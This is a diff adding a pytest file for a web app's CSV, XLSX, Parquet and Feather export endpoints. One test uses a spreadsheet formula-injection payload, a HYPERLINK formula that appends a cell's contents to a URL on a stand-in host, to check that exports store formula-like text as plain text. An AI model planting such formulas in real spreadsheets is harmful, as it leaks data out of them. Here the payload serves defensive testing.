@@ -0,0 +1,261 @@
+from app import db
+from app.exports import (ACTIVITY_COLUMNAR_COLUMNS, ACTIVITY_EXPORT_HEADER, activity_export_rows, csv_chunks,
+                         workbook_sheet_titles, write_columnar)
+from app.filters import ActivityFilter
+from app.models import Department, DepartmentTracking, TrackingField, User
+from openpyxl import load_workbook
+from sqlalchemy import event
+import csv
+import io
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+FORMULA = '=HYPERLINK("http://x.test/?"&C2,"open")'
+
+
+@pytest.fixture
+def database_url(tmp_path):
+    # A file database, so the parallel XLSX export's worker processes can open it
+    return f"sqlite:///{tmp_path / 'exports.db'}"
+
+
+@pytest.fixture
+def second_dept(app, data):
+    """A second department with one user, so workbooks have more than one sheet."""
+    with app.app_context():
+        dept = Department(name='HR: Daily/Tracking', description='HR')
+        db.session.add(dept)
+        db.session.flush()
+        user = User(name='Hana', employee_id='H1', department=dept.name, login_id='hana', password='x')
+        db.session.add(user)
+        db.session.commit()
+        return dept.id, user.id
+
+
+def _workbook(client, workers, app):
+    app.config['EXPORT_WORKERS'] = workers
+    response = client.get('/api/management/export?format=xlsx')
+    assert response.status_code == 200
+    return load_workbook(io.BytesIO(response.data))
+
+
+@pytest.mark.parametrize('workers', [1, 2])
+def test_xlsx_keeps_formula_like_text_as_text(app, data, second_dept, add_entry, client, login, workers):
+    add_entry(data.staff_id, activity_description=FORMULA, channel='Email')
+    add_entry(second_dept[1], activity_description='+SUM(1,2) and more')
+
+    login(data.admin_id)
+    wb = _workbook(client, workers, app)
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == 'f']
+    values = {cell.value for cell in cells}
+    assert FORMULA in values and '+SUM(1,2) and more' in values
+
+
+def _csv_rows(response):
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+
+
+def test_management_csv_is_streamed_newest_first(data, second_dept, add_entry, client, login):
+    add_entry(data.staff_id, activity_description='First', duration_mins=10)
+    add_entry(second_dept[1], activity_description='Second\nline', duration_mins=20)
+
+    login(data.admin_id)
+    response = client.get('/api/management/export')
+    assert response.is_streamed
+    assert response.mimetype == 'text/csv'
+    rows = _csv_rows(response)
+
+    assert rows[0] == ACTIVITY_EXPORT_HEADER
+    column = {name: i for i, name in enumerate(ACTIVITY_EXPORT_HEADER)}
+    assert [(r[column['department_id']], r[column['duration_mins']], r[column['activity_description']])
+            for r in rows[1:]] == [(str(second_dept[0]), '20', 'Second line'), (str(data.dept_id), '10', 'First')]
+
+
+def test_management_csv_applies_filters(data, second_dept, add_entry, client, login):
+    add_entry(data.staff_id)
+    add_entry(second_dept[1])
+
+    login(data.admin_id)
+    rows = _csv_rows(client.get(f'/api/management/export?dept={second_dept[0]}'))
+    assert [r[ACTIVITY_EXPORT_HEADER.index('user_id')] for r in rows[1:]] == [str(second_dept[1])]
+
+
+def test_csv_chunks_split_on_row_boundaries():
+    records = [[i, f'row {i}'] for i in range(5)]
+    chunks = list(csv_chunks(['id', 'text'], records, rows_per_chunk=2))
+
+    assert len(chunks) == 3
+    assert all(chunk.endswith('\r\n') for chunk in chunks)
+    assert list(csv.reader(io.StringIO(''.join(chunks)))) == [['id', 'text']] + [[str(i), t] for i, t in records]
+
+
+@pytest.fixture
+def legacy_field(app, data):
+    """A custom field that older entries only have in the legacy ticket_request_type column."""
+    with app.app_context():
+        db.session.add(TrackingField(department_id=data.dept_id, field_name='ticket_request_type', field_type='text',
+                                     field_label='Request Type', is_required=False, order=3))
+        db.session.commit()
+
+
+def _department_csv(app, client, statements=None):
+    def record(conn, cursor, statement, parameters, context, executemany):
+        statements.append(statement)
+
+    if statements is not None:
+        with app.app_context():
+            event.listen(db.engine, 'before_cursor_execute', record)
+    try:
+        response = client.get('/export-department-entries')
+        assert response.is_streamed
+        return _csv_rows(response)
+    finally:
+        if statements is not None:
+            with app.app_context():
+                event.remove(db.engine, 'before_cursor_execute', record)
+
+
+def test_department_csv_expands_custom_fields_with_employee_names(app, data, legacy_field, add_entry, client, login):
+    add_entry(data.staff_id, hours='3', channel='Phone', ticket_request_type='Access')
+    with app.app_context():
+        db.session.add(DepartmentTracking(user_id=data.admin_id, department_id=data.dept_id,
+                                          activity_description='Imported', ticket_request_type='Incident'))
+        db.session.commit()
+
+    login(data.staff_id)
+    rows = _department_csv(app, client)
+
+    header = rows[0]
+    assert header[-3:] == ['Hours', 'Channel', 'Request Type']
+    by_employee = {row[header.index('Employee')]: dict(zip(header, row)) for row in rows[1:]}
+    assert set(by_employee) == {'Staff', 'Admin'}
+    assert (by_employee['Staff']['Hours'], by_employee['Staff']['Channel'],
+            by_employee['Staff']['Request Type']) == ('3', 'Phone', 'Access')
+    # No custom field JSON: the legacy column fills in, the rest stay empty
+    assert (by_employee['Admin']['Hours'], by_employee['Admin']['Request Type']) == ('', 'Incident')
+
+
+def test_department_csv_statements_do_not_grow_with_rows(app, data, add_entry, client, login):
+    with app.app_context():
+        users = [User(name=f'Agent {i}', employee_id=f'G{i}', department='IT - Daily Tracking',
+                      login_id=f'agent{i}', password='x') for i in range(6)]
+        db.session.add_all(users)
+        db.session.commit()
+        user_ids = [user.id for user in users]
+
+    # A lazy per-row User load would cost one more SELECT for each new author
+    for user_id in user_ids[:2]:
+        add_entry(user_id)
+    login(data.staff_id)
+    _department_csv(app, client)  # warm the login and schema caches
+    few = []
+    _department_csv(app, client, few)
+
+    for user_id in user_ids[2:]:
+        add_entry(user_id)
+    login(data.staff_id)
+    many = []
+    rows = _department_csv(app, client, many)
+
+    assert {row[2] for row in rows[1:]} == {f'Agent {i}' for i in range(6)}
+    assert len(many) == len(few)
+
+
+def _columnar_table(response, fmt):
+    assert response.status_code == 200
+    if fmt == 'parquet':
+        return pq.read_table(io.BytesIO(response.data))
+    return pa.ipc.open_file(pa.BufferReader(response.data)).read_all()
+
+
+@pytest.mark.parametrize('fmt', ['parquet', 'feather'])
+def test_columnar_export_has_typed_and_expanded_columns(app, data, add_entry, client, login, fmt):
+    add_entry(data.staff_id, hours='3', channel='Phone', duration_mins=25)
+    with app.app_context():
+        # Stored before the field was typed: unparseable values export as null
+        entry = DepartmentTracking(user_id=data.staff_id, department_id=data.dept_id, activity_description='Old')
+        entry.set_custom_fields_data({'hours': 'n/a', 'channel': 'Email'})
+        db.session.add(entry)
+        db.session.commit()
+
+    login(data.admin_id)
+    table = _columnar_table(client.get(f'/api/management/export?format={fmt}'), fmt)
+
+    schema = table.schema
+    assert pa.types.is_timestamp(schema.field('date_logged').type)
+    assert schema.field('id').type == schema.field('duration_mins').type == pa.int64()
+    # Custom fields become real columns typed from their TrackingField
+    assert schema.names[-2:] == ['hours', 'channel']
+    assert (schema.field('hours').type, schema.field('channel').type) == (pa.int64(), pa.string())
+    rows = table.to_pylist()
+    assert [(r['hours'], r['channel'], r['duration_mins']) for r in rows] == [(None, 'Email', None), (3, 'Phone', 25)]
+
+
+@pytest.mark.parametrize('fmt', ['parquet', 'feather'])
+def test_department_columnar_export_joins_employee_names(data, add_entry, client, login, fmt):
+    add_entry(data.staff_id, hours='2')
+
+    login(data.staff_id)
+    table = _columnar_table(client.get(f'/export-department-entries?format={fmt}'), fmt)
+    assert table.column('employee_name').to_pylist() == ['Staff']
+    assert table.column('hours').to_pylist() == [2]
+
+
+def test_parquet_is_written_in_row_group_batches(app, data, add_entry):
+    for _ in range(5):
+        add_entry(data.staff_id)
+
+    buffer = io.BytesIO()
+    with app.app_context():
+        flt = ActivityFilter.from_args({})
+        written = write_columnar(buffer, 'parquet', ACTIVITY_COLUMNAR_COLUMNS, [],
+                                 activity_export_rows(flt, batch_size=2), batch_size=2)
+
+    assert written == 5
+    parquet = pq.ParquetFile(io.BytesIO(buffer.getvalue()))
+    assert [parquet.metadata.row_group(i).num_rows for i in range(parquet.num_row_groups)] == [2, 2, 1]
+
+
+def _sheet_values(wb):
+    return [(ws.title, [list(row) for row in ws.iter_rows(values_only=True)]) for ws in wb.worksheets]
+
+
+def test_workbook_sheet_titles_are_valid_and_unique():
+    long_name = 'Operations and Customer Experience Tracking'
+    titles = workbook_sheet_titles(['HR: Daily/Tracking', 'hr- daily-tracking', long_name, long_name, "'Quoted'", '*'])
+
+    assert titles[0] == 'HR- Daily-Tracking'
+    assert titles[1] == 'hr- daily-tracking (2)'
+    assert titles[2] == long_name[:31]
+    assert titles[3] == long_name[:27] + ' (2)'
+    assert titles[4:] == ['Quoted', '-']
+    assert all(len(title) <= 31 for title in titles)
+
+
+def test_xlsx_has_one_sheet_per_department_with_its_fields(app, data, second_dept, add_entry, client, login):
+    add_entry(data.staff_id, hours='4', channel='Email')
+    add_entry(second_dept[1])
+
+    login(data.admin_id)
+    sheets = dict(_sheet_values(_workbook(client, 1, app)))
+
+    assert list(sheets) == ['IT - Daily Tracking', 'HR- Daily-Tracking']
+    it_header, it_row = sheets['IT - Daily Tracking']
+    assert it_header[-2:] == ['Hours', 'Channel'] and it_row[-2:] == [4, 'Email']
+    assert it_row[it_header.index('Employee')] == 'Staff'
+    hr_header, hr_row = sheets['HR- Daily-Tracking']
+    assert hr_header[-1] == 'Activity Description' and hr_row[hr_header.index('Employee')] == 'Hana'
+
+
+def test_parallel_xlsx_matches_serial(app, data, second_dept, add_entry, client, login):
+    for minutes in (5, 15):
+        add_entry(data.staff_id, duration_mins=minutes, channel='Phone')
+    add_entry(second_dept[1], duration_mins=30)
+
+    login(data.admin_id)
+    serial = _sheet_values(_workbook(client, 1, app))
+    assert _sheet_values(_workbook(client, 2, app)) == serial
+    assert [len(rows) for _, rows in serial] == [3, 2]